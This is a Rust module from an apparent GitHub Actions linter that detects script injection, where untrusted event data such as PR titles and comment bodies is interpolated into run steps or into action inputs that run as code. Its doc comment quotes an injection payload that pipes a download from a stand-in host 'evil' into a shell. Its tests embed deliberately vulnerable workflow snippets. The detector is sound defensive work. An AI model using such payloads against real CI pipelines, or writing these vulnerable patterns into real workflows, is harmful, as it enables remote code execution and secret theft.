//! `untrusted-input-in-run`: an untrusted value interpolated with `${{ }}` into a script: a
//! `run:` (any shell, PowerShell included), the `script:` of `actions/github-script`, or an
//! input that another action runs as code (yq and jq commands, SSH and Azure CLI scripts,
//! docker-run commands, backport templates). The value may come straight from the event
//! (`github.event.issue.title`, `github.head_ref`), or through `env:`, step and job outputs,
//! matrix values and free-text `workflow_dispatch` inputs ([`super::taint`]). The expression is pasted into the
//! script before it runs, so a title like `"; curl evil | sh #` is code. An expression that
//! can only yield `true` or `false` is harmless and not reported.

use super::taint::{Origin, Taint};
use super::{locate_at, related};
use crate::ctx::FileCtx;
use crate::formats::workflow::{Pos, Str, Workflow};
use crate::out::Hit;
use trustlint_model::Confidence;

/// Inputs that actions evaluate as code or templates: (action, inputs).
const SINKS: &[(&str, &[&str])] = &[
    ("actions/github-script", &["script"]),
    ("mikefarah/yq", &["cmd"]),
    ("sergeysova/jq-action", &["cmd"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("addnab/docker-run-action", &["run", "options"]),
    (
        "tibdex/backport",
        &[
            "body_template",
            "head_template",
            "labels_template",
            "title_template",
        ],
    ),
    ("cardinalby/js-eval-action", &["expression"]),
];

/// An untrusted value interpolated into a script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UntrustedInput {
    pub at: Pos,
    /// What the expression reads, and where that comes from: `env.T (from github.event.issue.title)`.
    pub field: String,
    /// The whole `${{ ... }}` expression.
    pub expression: String,
    pub origin: Origin,
}

pub fn find(file: &FileCtx<'_>, wf: &Workflow) -> Vec<UntrustedInput> {
    let taint = Taint::new(wf);
    let mut out = Vec::new();
    for (j, job) in wf.jobs.iter().enumerate() {
        for (i, step) in job.steps.iter().enumerate() {
            let mut scripts: Vec<&Str> = step.run.iter().collect();
            if let Some(u) = &step.uses {
                for (action, inputs) in SINKS {
                    if u.uses.is(action) {
                        scripts.extend(inputs.iter().filter_map(|n| step.with(n)));
                    }
                }
            }
            for script in scripts {
                for flow in taint.text(j, Some(i), &script.text) {
                    out.push(UntrustedInput {
                        at: locate_at(file, script, &flow.expression, flow.offset),
                        field: flow.origin.describe(&flow.path),
                        expression: flow.expression,
                        origin: flow.origin,
                    });
                }
            }
        }
    }
    out
}

impl UntrustedInput {
    pub fn hit(&self, file: &FileCtx<'_>) -> Hit {
        let mut hit = file
            .hit(self.at.line, self.at.column)
            .arg("field", self.field.as_str());
        if let Some((what, at)) = &self.origin.via {
            hit = hit.related(related(
                file,
                *at,
                format!("`{what}` is set from `{}` here", self.origin.source),
            ));
        }
        if self.origin.confidence == Confidence::Medium {
            hit = hit.confidence(Confidence::Medium);
        }
        hit.matched(self.expression.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(wf: &str) -> Vec<(u32, u32, String)> {
        let file = FileCtx::new(".github/workflows/ci.yml", wf);
        let model = super::super::model(wf);
        find(&file, &model)
            .into_iter()
            .map(|u| (u.at.line, u.at.column, u.field))
            .collect()
    }

    #[test]
    fn titles_in_block_scripts_are_found_at_their_own_line_numbers_are_not() {
        let wf = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: |\n          echo start\n          echo \"${{ github.event.pull_request.title }}\"\n          echo \"${{ github.event.pull_request.number }}\"\n      - uses: actions/github-script@v7\n        with:\n          script: console.log(\"${{ github.head_ref }}\")\n";
        assert_eq!(
            found(wf),
            vec![
                (7, 17, "github.event.pull_request.title".into()),
                (11, 32, "github.head_ref".into())
            ]
        );
    }

    #[test]
    fn values_through_env_and_other_sinks_are_found_booleans_and_quoted_vars_are_not() {
        let wf = concat!(
            "on: issue_comment\n",
            "jobs:\n  a:\n    env:\n      BODY: ${{ github.event.comment.body }}\n    steps:\n",
            "      - run: echo \"$BODY\"\n",
            "      - run: echo ${{ env.BODY }}\n",
            "      - if: ${{ contains(github.event.comment.body, '/go') }}\n        run: echo ${{ contains(github.event.comment.body, '/go') }}\n",
            "      - uses: mikefarah/yq@v4\n        with:\n          cmd: yq '.a = \"${{ github.event.comment.body }}\"' f.yml\n",
        );
        assert_eq!(
            found(wf),
            vec![
                (8, 19, "env.BODY (from github.event.comment.body)".into()),
                (13, 26, "github.event.comment.body".into()),
            ]
        );
    }
}
